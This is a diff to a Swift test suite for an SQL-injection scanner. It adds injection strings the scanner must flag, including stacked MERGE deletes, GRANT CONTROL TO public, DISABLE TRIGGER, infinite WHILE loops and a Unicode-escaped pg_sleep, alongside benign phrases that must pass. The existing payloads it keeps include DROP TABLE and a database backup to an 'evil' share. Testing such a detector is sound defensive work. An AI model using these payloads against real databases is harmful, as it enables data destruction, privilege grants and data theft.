@@ -13,6 +13,10 @@ struct SQLScannerTests {
             "x' EXEC sp_addlogin 'a','b'--",
             "x'/**/DROP/**/TABLE/**/users--", "x\" DROP TABLE users --", "1 DELETE FROM users", "1 DROP TABLE users--",
             "x' DECLARE @q nvarchar(99)--", "x' BACKUP DATABASE master TO DISK='\\\\evil\\x'--", "x' CREATE LOGIN evil WITH PASSWORD='p'--",
+            // Found in review: MERGE, permissions, loops and triggers.
+            "x' MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE; --", "x' MERGE t USING s ON 1=1 WHEN MATCHED THEN DELETE --",
+            "x' GRANT CONTROL TO public --", "x' DENY SELECT ON t TO public --", "x' REVOKE SELECT ON t FROM app --",
+            "x' WHILE 1=1 SELECT 1 --", "1 WHILE 1=1 SELECT 1", "x' DISABLE TRIGGER ALL ON t --", "x' USE master --",
         ])
     func stacked(value: String) {
         let finding = SQLScanner.finding(in: value)
@@ -24,8 +28,23 @@ struct SQLScannerTests {
         arguments: [
             "I said 'select all' then", "don't drop it", "it's time to update the list", "please delete from the list", "O'Brien",
             "rock 'n' roll", "we'll create a table tomorrow", "42 items", "x' shutdown soon", "1 update",
+            "3 grant applications to review", "I will wait while you go", "enable trigger warnings please", "2 merge requests",
+            "1 use case", "it's what we use",
         ])
     func benign(value: String) {
         #expect(SQLScanner.finding(in: value) == nil, "\(value): \(SQLScanner.finding(in: value) ?? "")")
+    }
+
+    @Test(
+        "an identifier written with Unicode escapes (PostgreSQL's U&\"…\") is refused: its name cannot be checked",
+        arguments: [#"x' AND U&"pg\005fsleep"(5) IS NULL --"#, #"1 AND u&"pg\005fsleep"(5)"#])
+    func unicodeEscapedIdentifier(value: String) {
+        #expect(SQLScanner.finding(in: value)?.contains("Unicode escapes") == true, "\(value)")
+    }
+
+    @Test("the percent-decoded text is kept as a form between the value as sent and its NFKC form")
+    func decodedForm() {
+        #expect(ArgumentCanonicalizer.forms(of: "x %3E%CC%B8") == ["x %3E%CC%B8", "x >\u{338}", "x \u{226F}"])
+        #expect(ArgumentCanonicalizer.forms(of: "a%2Fb") == ["a%2Fb", "a/b"])
     }
 }
